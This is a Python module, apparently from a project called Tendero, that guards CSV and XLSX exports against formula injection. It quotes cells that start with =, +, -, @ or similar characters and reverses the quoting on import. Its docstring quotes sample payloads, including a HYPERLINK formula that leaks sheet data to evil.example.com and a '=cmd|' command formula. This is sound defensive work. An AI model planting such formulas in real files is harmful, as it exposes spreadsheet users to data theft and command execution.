"""Every CSV and XLSX file Tendero writes (exports, rejected-rows reports, command
output) is written through this module, so that no cell is a formula when a
spreadsheet opens it (CSV or formula injection: a customer named
=HYPERLINK("http://evil.example.com/?"&A1,"Click") would otherwise be a live link
leaking the sheet, and "=cmd|..." a command).

The rule, after OWASP's CSV-injection guidance: a text cell that starts with = + - @,
a tab or a carriage return (or their full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20,
which some spreadsheets also read as formulas) is written with a single quote in
front ('=HYPERLINK(...)), so that spreadsheets show it as text.

Numbers are not text: an int, float or Decimal is written as a number. A text that is
just a plain number ("-5", "+34612345678", "-12.50", "1e3": an optional sign, ASCII
digits, an optional decimal point and exponent) is left as it is: a spreadsheet reads
it as that number, which runs nothing, and it stays readable and imports back as
written. The importer reverses the rule (restore_cell), so an exported file still
imports back unchanged.

In XLSX every text cell is also written as a string cell (data type "s"), never left
for openpyxl to guess (it makes a formula of any text starting with =), and the
characters XML cannot hold (control characters older data may have) become U+FFFD
instead of failing the whole file.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Protocol

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
# What XML 1.0 cannot hold (openpyxl refuses to write it).
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def neutralise(text: str) -> str:
    """`text` as a spreadsheet must see it: with a quote in front if it would start a
    formula (see the module's docstring)."""
    if text[:1] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(text):
        return QUOTE + text
    return text


def restore_cell(text: str) -> str:
    """The text `neutralise` was given, for a cell read back from a file Tendero wrote
    (a quote followed by a character that starts a formula loses its quote)."""
    if (
        text[:1] == QUOTE
        and text[1:2] in FORMULA_TRIGGERS
        and not _PLAIN_NUMBER.fullmatch(text[1:])
    ):
        return text[1:]
    return text


def safe_cell(value: Any) -> Any:
    """A cell's value for a spreadsheet: numbers as they are, None as empty, anything
    else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise(str(value))


_NUMBERS = frozenset({int, float, Decimal})


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class CsvWriter:
    """csv.writer whose every text cell is neutralised; the same arguments."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer: _Writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        # Most cells are plain text or numbers: those skip the call (a million-row
        # file is written about twice as fast).
        return self._writer.writerow(
            [
                value
                if (type(value) is str and value[:1] not in FORMULA_TRIGGERS)
                or type(value) in _NUMBERS
                else safe_cell(value)
                for value in row
            ]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> Iterator[str]:
    """Each row as one CSV line (for a streaming response); the first one starts with
    a UTF-8 byte order mark when `bom` (so that Excel shows accents)."""
    writer = CsvWriter(_Echo())
    for index, row in enumerate(rows):
        line = writer.writerow(row)
        yield ("\ufeff" + line) if bom and index == 0 else line


def xlsx_workbook() -> Workbook:
    """A write-only workbook (rows go to disk as they are appended)."""
    import openpyxl

    return openpyxl.Workbook(write_only=True)


class XlsxSheet:
    """A sheet of a write-only workbook whose text cells are neutralised string cells."""

    def __init__(self, workbook: Workbook, title: str) -> None:
        self.sheet = workbook.create_sheet(title=title[:31])
        # One string cell per column, reused: a write-only sheet writes a row as it is
        # appended.
        self._text_cells: list[Cell] = []

    def _text_cell(self, column: int, text: str) -> Cell:
        from openpyxl.cell import WriteOnlyCell

        while len(self._text_cells) <= column:
            self._text_cells.append(WriteOnlyCell(self.sheet))
        cell = self._text_cells[column]
        cell.value = _XML_ILLEGAL.sub("\ufffd", text)
        cell.data_type = "s"  # never a formula, whatever openpyxl would guess
        return cell

    def append(self, row: Iterable[Any]) -> None:
        values: list[Any] = []
        for column, value in enumerate(row):
            cell = safe_cell(value) if not isinstance(value, datetime | date | time) else value
            if isinstance(cell, str):
                cell = self._text_cell(column, cell) if cell else None
            values.append(cell)
        self.sheet.append(values)
